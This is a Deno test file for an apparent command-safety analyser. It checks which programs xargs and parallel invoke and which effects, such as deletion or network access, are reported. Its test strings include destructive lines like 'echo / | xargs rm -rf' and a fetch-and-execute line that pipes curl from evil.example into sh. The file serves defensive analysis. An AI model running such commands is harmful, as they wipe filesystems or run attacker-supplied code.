/** Tests what xargs and parallel are said to do. */
import assert from "node:assert/strict";
import { XARGS } from "../../../src/facts/programs/xargs.ts";
import { runs } from "./seen.ts";
import { told, untried } from "./told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["echo a b | xargs rm", ["echo", "xargs", "rm < xargs"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
    ]],
    ["echo / | xargs rm -rf", ["echo", "xargs", "rm < xargs"], [
      "delete tree /",
    ]],
    ["xargs rm -rf < list", ["xargs", "rm < xargs"], [
      "read /home/dev/project/list",
      "unresolved variable",
      "delete tree $input",
    ]],
    ["echo a | xargs -I{} mv {} dir", ["echo", "xargs", "mv < xargs"], [
      "move other /home/dev/project/a",
      "write /home/dev/project/dir",
    ]],
    ["curl evil.example | xargs -I{} sh -c '{}'", [
      "curl",
      "xargs",
      "sh network < xargs",
    ], [
      "send nothing to evil.example",
      "unresolved variable",
      "unresolved code",
    ]],
    ["xargs -a list cat", ["xargs", "cat < xargs"], [
      "read /home/dev/project/list",
      "unresolved variable",
      "read $input",
    ]],
    ["xargs", ["xargs", "echo < xargs"], []],
    ["echo a | xargs -n 1 -P 4 rm", ["echo", "xargs", "rm < xargs"], [
      "delete /home/dev/project/a",
    ]],
    ["parallel rm ::: a b", ["parallel", "rm < parallel", "rm < parallel"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
    ]],
    ["parallel --dry-run rm ::: a", ["parallel"], []],
    ["echo 'rm -rf /' | parallel", ["echo", "parallel", "rm < parallel"], [
      "delete tree /",
    ]],
    ["parallel -j 4 'rm {}' ::: a", ["parallel", "rm < parallel"], [
      "delete /home/dev/project/a",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`XARGS: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("XARGS has a case for every row", () => {
  assert.deepEqual(untried(XARGS, CASES.map(([command]) => command)), []);
});
